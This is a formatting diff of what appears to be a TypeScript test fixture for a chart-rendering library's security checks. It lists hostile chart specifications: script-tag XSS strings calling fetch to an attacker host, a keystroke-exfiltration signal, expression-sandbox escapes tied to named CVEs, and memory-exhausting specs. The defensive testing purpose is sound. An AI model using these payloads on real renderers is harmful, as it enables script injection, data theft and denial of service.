@@ -1,6 +1,9 @@
 import { BARS } from './chart-site.js';
 
-/** Specifications of somebody who means harm, by what they are after. `drawn`: nothing of it works, and what is left is a chart; `said`: words. */
+/**
+ * Specifications of somebody who means harm, by what they are after. `drawn`: nothing of it works, and what is left is
+ * a chart; `said`: words.
+ */
 export interface HostileSpec {
   readonly what: string;
   readonly spec: object;
@@ -19,20 +22,36 @@ export const hostileSpecs = (attacker: string): readonly HostileSpec[] => {
   const steal = `fetch('${attacker}/stolen')`;
   const asked = { events: 'window:keydown', update: `'${attacker}/key?' + event.key` };
   return [
-    { what: 'rows by address', spec: bars({ data: { url: `${attacker}/rows.json` } }), ends: 'said' },
+    {
+      what: 'rows by address',
+      spec: bars({ data: { url: `${attacker}/rows.json` } }),
+      ends: 'said',
+    },
     {
       what: 'rows of a look-up by address',
       spec: bars({
-        transform: [{ lookup: 'groep', from: { data: { url: `${attacker}/lookup.json` }, key: 'a', fields: ['b'] } }],
+        transform: [
+          {
+            lookup: 'groep',
+            from: { data: { url: `${attacker}/lookup.json` }, key: 'a', fields: ['b'] },
+          },
+        ],
       }),
       ends: 'said',
     },
     {
       what: 'rows of a layer by address',
-      spec: bars({ mark: undefined, layer: [{ data: { url: `${attacker}/layer.csv` }, mark: 'bar' }] }),
+      spec: bars({
+        mark: undefined,
+        layer: [{ data: { url: `${attacker}/layer.csv` }, mark: 'bar' }],
+      }),
       ends: 'said',
     },
-    { what: 'a picture by address', spec: bars({ mark: { type: 'image', url: `${attacker}/pixel.png` } }), ends: 'said' },
+    {
+      what: 'a picture by address',
+      spec: bars({ mark: { type: 'image', url: `${attacker}/pixel.png` } }),
+      ends: 'said',
+    },
     {
       what: 'a picture by address in a name that is no mark',
       spec: bars({ mark: { type: 'point', shape: `url(${attacker}/shape)` } }),
@@ -40,7 +59,10 @@ export const hostileSpecs = (attacker: string): readonly HostileSpec[] => {
     },
     {
       what: 'a colour that is an address',
-      spec: bars({ mark: { type: 'bar', color: `url(${attacker}/colour)` }, background: `url(${attacker}/ground)` }),
+      spec: bars({
+        mark: { type: 'bar', color: `url(${attacker}/colour)` },
+        background: `url(${attacker}/ground)`,
+      }),
       ends: 'drawn',
     },
     {
@@ -56,9 +78,23 @@ export const hostileSpecs = (attacker: string): readonly HostileSpec[] => {
       spec: bars({
         usermeta: {
           embedOptions: {
-            ...{ ast: false, actions: true, defaultStyle: `</style><img src=${attacker}/style>`, tooltip: true, renderer: 'canvas' },
-            ...{ config: `${attacker}/config.json`, patch: `${attacker}/patch.json`, editorUrl: attacker, bind: '#host' },
-            ...{ loader: { baseURL: attacker, http: { credentials: 'include' } }, sourceHeader: `<script>${steal}</script>` },
+            ...{
+              ast: false,
+              actions: true,
+              defaultStyle: `</style><img src=${attacker}/style>`,
+              tooltip: true,
+              renderer: 'canvas',
+            },
+            ...{
+              config: `${attacker}/config.json`,
+              patch: `${attacker}/patch.json`,
+              editorUrl: attacker,
+              bind: '#host',
+            },
+            ...{
+              loader: { baseURL: attacker, http: { credentials: 'include' } },
+              sourceHeader: `<script>${steal}</script>`,
+            },
           },
         },
       }),
@@ -70,7 +106,16 @@ export const hostileSpecs = (attacker: string): readonly HostileSpec[] => {
         title: `<img src=${attacker}/title onerror=alert(1)>`,
         description: `"><script>${steal}</script>`,
         mark: { type: 'bar', tooltip: { content: 'data' } },
-        data: { values: [{ groep: `<script>${steal}</script>`, aantal: 3, image: `${attacker}/image.png`, title: '<b>' }] },
+        data: {
+          values: [
+            {
+              groep: `<script>${steal}</script>`,
+              aantal: 3,
+              image: `${attacker}/image.png`,
+              title: '<b>',
+            },
+          ],
+        },
       }),
       ends: 'drawn',
     },
@@ -86,21 +131,43 @@ export const hostileSpecs = (attacker: string): readonly HostileSpec[] => {
       }),
       ends: 'drawn',
     },
-    { what: 'the maker of functions', spec: points(`datum.constructor.constructor('${steal.replaceAll("'", '"')}')()`), ends: 'said' },
-    { what: 'the maker of functions through a text', spec: points(`''['constructor']['constructor']('return 1')()`), ends: 'said' },
+    {
+      what: 'the maker of functions',
+      spec: points(`datum.constructor.constructor('${steal.replaceAll("'", '"')}')()`),
+      ends: 'said',
+    },
+    {
+      what: 'the maker of functions through a text',
+      spec: points(`''['constructor']['constructor']('return 1')()`),
+      ends: 'said',
+    },
     {
       what: 'a pattern that is none (CVE-2025-27793)',
       spec: points(`replace('a', {exec: pad, flags: 'g'}, '${attacker}')`),
       ends: 'said',
     },
-    { what: 'a scale that is a function (CVE-2023-26486)', spec: points(`scale(datum.constructor, '${attacker}')`), ends: 'drawn' },
-    { what: 'a lasso with a function (CVE-2023-26487)', spec: points(`lassoAppend({push: pad, length: 1}, 1, 1)`), ends: 'said' },
     {
-      what: 'tuples of a selection (CVE-2025-25304, CVE-2025-65110)',
-      spec: points(`vlSelectionTuples([{datum: 1}], {fields: [{getter: datum.constructor.constructor}], map: pad})`),
+      what: 'a scale that is a function (CVE-2023-26486)',
+      spec: points(`scale(datum.constructor, '${attacker}')`),
+      ends: 'drawn',
+    },
+    {
+      what: 'a lasso with a function (CVE-2023-26487)',
+      spec: points(`lassoAppend({push: pad, length: 1}, 1, 1)`),
       ends: 'said',
     },
-    { what: 'data that are set (CVE-2025-66648)', spec: points(`setdata('source_0', [{groep: '${attacker}'}])`), ends: 'drawn' },
+    {
+      what: 'tuples of a selection (CVE-2025-25304, CVE-2025-65110)',
+      spec: points(
+        `vlSelectionTuples([{datum: 1}], {fields: [{getter: datum.constructor.constructor}], map: pad})`,
+      ),
+      ends: 'said',
+    },
+    {
+      what: 'data that are set (CVE-2025-66648)',
+      spec: points(`setdata('source_0', [{groep: '${attacker}'}])`),
+      ends: 'drawn',
+    },
     {
       what: 'what becomes a text (CVE-2025-59840)',
       spec: points(`'' + {'toString': datum.constructor.constructor, 'valueOf': pad, then: pad}`),
@@ -126,13 +193,21 @@ export const hostileSpecs = (attacker: string): readonly HostileSpec[] => {
 
 /** Specifications that would fill the memory or never end. */
 export const hogs: readonly (readonly [what: string, spec: object])[] = [
-  ['counts to a thousand million', bars({ data: { sequence: { start: 0, stop: 1e9, as: 'aantal' } } })],
+  [
+    'counts to a thousand million',
+    bars({ data: { sequence: { start: 0, stop: 1e9, as: 'aantal' } } }),
+  ],
   [
     'imputes a thousand million keys',
-    bars({ transform: [{ impute: 'aantal', key: 'groep', keyvals: { start: 0, stop: 1e9 }, value: 0 }] }),
+    bars({
+      transform: [{ impute: 'aantal', key: 'groep', keyvals: { start: 0, stop: 1e9 }, value: 0 }],
+    }),
   ],
   ['asks an expression for a list of a thousand million', points('length(sequence(1e9))')],
-  ['asks for a density in a thousand million steps', bars({ transform: [{ density: 'aantal', steps: 1e9, extent: [0, 1] }] })],
+  [
+    'asks for a density in a thousand million steps',
+    bars({ transform: [{ density: 'aantal', steps: 1e9, extent: [0, 1] }] }),
+  ],
   [
     'multiplies its rows ten times ten times',
     bars({
